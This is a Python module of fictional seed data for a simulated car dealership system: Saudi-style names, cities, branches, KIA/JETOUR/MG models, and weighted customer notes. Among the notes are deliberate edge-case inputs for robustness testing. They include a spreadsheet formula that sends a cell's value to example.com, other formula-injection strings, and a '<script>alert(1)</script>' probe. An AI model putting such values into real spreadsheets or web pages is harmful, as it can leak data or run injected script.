"""The words of the simulated DMS: names, places, branches, models. Data only.

Given names are common ones; every family and company name is made up ("Al Namudhaj" is "the sample"), so that no
combination is a person. A weight is how often an entry is drawn, relative to its neighbours.
"""

# ruff: noqa: RUF001  some people do type Arabic digits

from __future__ import annotations

from dataclasses import dataclass

MEN = (
    ("Fahad", "فهد"), ("Khalid", "خالد"), ("Saad", "سعد"), ("Majed", "ماجد"), ("Turki", "تركي"),
    ("Nasser", "ناصر"), ("Sultan", "سلطان"), ("Yousef", "يوسف"), ("Omar", "عمر"), ("Bader", "بدر"),
    ("Ahmad", "أحمد"), ("Hassan", "حسن"), ("Ali", "علي"), ("Rakan", "راكان"), ("Ziyad", "زياد"),
    ("Anas", "أنس"), ("Waleed", "وليد"), ("Ibrahim", "إبراهيم"), ("Tariq", "طارق"),
)  # fmt: skip
WOMEN = (
    ("Sara", "سارة"), ("Noura", "نورة"), ("Reem", "ريم"), ("Lama", "لمى"), ("Huda", "هدى"),
    ("Maha", "مها"), ("Amal", "أمل"), ("Dana", "دانة"), ("Jawaher", "جواهر"), ("Hanan", "حنان"),
    ("Layan", "ليان"), ("Salma", "سلمى"), ("Wafa", "وفاء"),
)  # fmt: skip
FAMILIES = (
    ("Al Namudhaj", "النموذج"), ("Al Tajribi", "التجريبي"), ("Al Iftiradi", "الافتراضي"),
    ("Al Khayali", "الخيالي"), ("Al Waraqi", "الورقي"), ("Al Burtuqali", "البرتقالي"),
    ("Al Zumurrudi", "الزمردي"), ("Al Kawkabi", "الكوكبي"), ("Al Qamari", "القمري"),
    ("Al Sahabi", "السحابي"), ("Al Lawzi", "اللوزي"), ("Al Yaqouti", "الياقوتي"),
    ("Al Fayruzi", "الفيروزي"), ("Al Banafsaji", "البنفسجي"), ("Al Zanbaqi", "الزنبقي"),
    ("Al Yasmini", "الياسميني"), ("Al Narjisi", "النرجسي"), ("Al Fustuqi", "الفستقي"),
    ("Al Mishmishi", "المشمشي"), ("Al Tuffahi", "التفاحي"), ("Al Zaytuni", "الزيتوني"),
    ("Al Kahrami", "الكهرمي"), ("Al Sarabi", "السرابي"),
)  # fmt: skip
GUEST_MEN = (
    ("Ravi Samplekar", "رافي سامبلكار"), ("Imran Testwala", "عمران تستوالا"), ("Joseph Exemplar", "جوزيف إكسمبلار"),
    ("Adel Misalawi", "عادل المثالاوي"), ("Kiran Protovala", "كيران بروتوفالا"), ("Samir Tajrubah", "سمير تجروبة"),
)  # fmt: skip
GUEST_WOMEN = (
    ("Maria Demoza", "ماريا ديموزا"), ("Sunita Mockani", "سونيتا موكاني"), ("Grace Prototypa", "غريس بروتوتيبا"),
    ("Mona Unmudhaji", "منى الأنموذجي"),
)  # fmt: skip
"""Residents who are not Saudi: given and family name."""

GUEST_NATIONS = ("indian", "filipino", "pakistani", "egyptian", "jordanian", "yemeni", "sudanese")

COMPANIES = (
    ("Namudhaj Trading Est.", "مؤسسة النموذج للتجارة", "Trading"),
    ("Example Contracting Co.", "شركة المثال للمقاولات", "Construction"),
    ("Tajriba Logistics", "تجربة للخدمات اللوجستية", "Logistics"),
    ("Khayal Rent a Car", "خيال لتأجير السيارات", "Car Rental"),
    ("Sahab Medical Group", "مجموعة سحاب الطبية", "Health"),
    ("Waraq Foods", "ورق للأغذية", "Food & Beverage"),
    ("Sarab Travel & Tourism", "سراب للسفر والسياحة", "Tourism"),
)
"""Company names in both scripts, and their industry."""

OCCUPATIONS = (
    "Engineer", "Teacher", "Nurse", "Accountant", "Government employee", "Military", "Student", "Driver",
    "Sales executive", "Business owner", "Retired", "مهندس", "معلم", "موظف حكومي", "", None,
)  # fmt: skip

INCOMES = (
    (18, "5000-10000 SAR"), (16, "10000-15000 SAR"), (9, "15000-20000 SAR"), (7, "20000+ SAR"), (4, ">20000 SAR"),
    (6, "<5000 SAR"), (3, "٥٠٠٠-١٠٠٠٠ ريال"), (2, "12000"), (12, ""), (8, None),
)  # fmt: skip


@dataclass(frozen=True, slots=True, eq=False)  # told apart by identity, which hashes fast
class City:
    """A city, its region, and the branches that serve it."""

    weight: int
    region: str
    name: str
    branches: tuple[str, ...]


CITIES = (
    City(24, "Riyadh", "Riyadh", ("Riyadh Khurais", "Riyadh Exit 5", "Riyadh Qadisiyah")),
    City(3, "Riyadh", "Al Kharj", ("Riyadh Khurais",)),
    City(1, "Riyadh", "Afif", ("Riyadh Exit 5",)),
    City(15, "Makkah", "Jeddah", ("Jeddah Madinah Road", "Jeddah Tahlia")),
    City(6, "Makkah", "Makkah", ("Makkah",)),
    City(3, "Makkah", "Taif", ("Makkah",)),
    City(5, "Madinah", "Madinah", ("Madinah",)),
    City(9, "Eastern Province", "Dammam", ("Dammam",)),
    City(6, "Eastern Province", "Khobar", ("Khobar",)),
    City(6, "Eastern Province", "Al Ahsa", ("Hofuf",)),
    City(2, "Eastern Province", "Jubail", ("Dammam",)),
    City(5, "Qassim", "Buraidah", ("Buraidah",)),
    City(5, "Asir", "Abha", ("Khamis Mushait",)),
    City(3, "Tabuk", "Tabuk", ("Tabuk",)),
    City(3, "Jazan", "Jazan", ("Jazan",)),
    City(2, "Hail", "Hail", ("Hail",)),
)
"""Where customers live."""

BRANCHES = tuple(dict.fromkeys(branch for city in CITIES for branch in city.branches))
"""Every branch of the dealership group."""

STREETS = (
    ("King Fahd Road", ""), ("King Abdullah Road", "Unit 12"), ("Prince Sultan Street", None),
    ("Al Olaya District", "Building 7"), ("حي النخيل", "شقة ٤"), ("شارع الأمير محمد", ""), ("", None), (None, None),
)  # fmt: skip
"""The two address lines."""


@dataclass(frozen=True, slots=True, eq=False)  # as above
class Brand:
    """A brand, the company of the group that sells it, and its model families with their weights."""

    weight: int
    name: str
    company: str
    families: tuple[tuple[int, str], ...]


BRANDS = (
    Brand(
        70,
        "KIA",
        "JTC",
        (
            (14, "PEGAS"), (11, "RIO"), (10, "SPORTAGE"), (9, "SELTOS"), (8, "K5"), (7, "SONET"), (7, "SORENTO"),
            (6, "K4"), (5, "TELLURIDE"), (4, "CARNIVAL"), (3, "K8"), (1, "EV9"),
        ),
    ),
    Brand(18, "JETOUR", "JTC", ((10, "X70"), (9, "DASHING"), (8, "T2"), (5, "X90"))),
    Brand(12, "MG", "NMC", ((10, "MG 5"), (8, "ZS"), (7, "RX5"), (4, "HS"))),
)  # fmt: skip
"""What the group sells."""

INTERESTS = (
    (40, "Sales", "Price Quote"), (16, "Sales", "Test Drive"), (10, "Sales", "Finance Offer"),
    (6, "Sales", "Trade In"), (5, "Sales", "Brochure"), (2, "Sales", "Fleet Offer"), (6, "Sales", None),
    (5, "Service", "Service Booking"), (2, "Parts", "Spare Parts"),
)  # fmt: skip
"""Weight, business area and interest."""

INTENTS = (
    (6, "Within 7 Days", "Hot"), (8, "Within 30 Days", "Hot"), (22, "Within 30 Days", "Warm"),
    (18, "Within 90 Days", "Warm"), (12, "Within 90 Days", "Cold"), (11, "More Than 90 Days", "Cold"),
    (4, "Undecided", "Cold"), (5, "", "Warm"), (3, None, None),
)  # fmt: skip
"""Weight, purchase plan and priority: who buys soon is hot."""

PAYMENTS = ((46, "Credit"), (34, "Cash"), (12, "Lease"), (5, ""), (3, None))

MEMOS = (
    (60, ""), (20, None), (8, "Full option"), (6, "Standard trim"), (3, "فل كامل"), (2, "GT-Line, sunroof"),
    (1, "=MODEL"),
)  # fmt: skip
PREFERENCES = (
    (50, ""), (18, None), (10, "White"), (8, "Black, beige interior"), (6, "لون أبيض"), (4, "Any colour"),
    (2, "Silver / Grey"), (1, "-10% discount"), (1, "+ tinted glass"),
)  # fmt: skip

NOTES = (
    (520, ""), (180, None),
    (40, "Customer wants a call after 5 pm."), (40, "Asked for the best cash price."),
    (30, "Wants to trade in a 2016 sedan"), (30, "يرغب بالتواصل عبر الواتساب"),
    (25, "العميل يريد عرض سعر للتقسيط"), (20, "Call back\nBudget 70,000 SAR\nFamily of five"),
    (15, "Interested in 0% campaign 😊"), (12, "يفضل الاتصال مساءً 🙏🚗"), (10, 'Came with "friend" \\ no rush'),
    (6, "+966500000005"), (5, "-"), (4, '=HYPERLINK("http://example.com/?"&A1,"click")'),
    (4, "@branch please follow up"), (3, "00966500000005"), (3, "=1+1"), (3, "1e5"), (2, "2025-08-12"),
    (2, "4000123412341234"), (2, "first line\r\n\tsecond line\r\n"), (2, "-5% if paid today"),
    (2, "\u200fعميل مميز\u200e VIP"), (2, "Nai\u0308ve accents, caf\u00e9, 株式会社"), (1, "TRUE"),
    (1, "<b>urgent</b> & <script>alert(1)</script>"),
    (3, "The customer called three times and described in detail what the family needs. " * 25),
)  # fmt: skip
"""What people type into a note: mostly nothing, rarely something that a careless tool takes for a formula."""
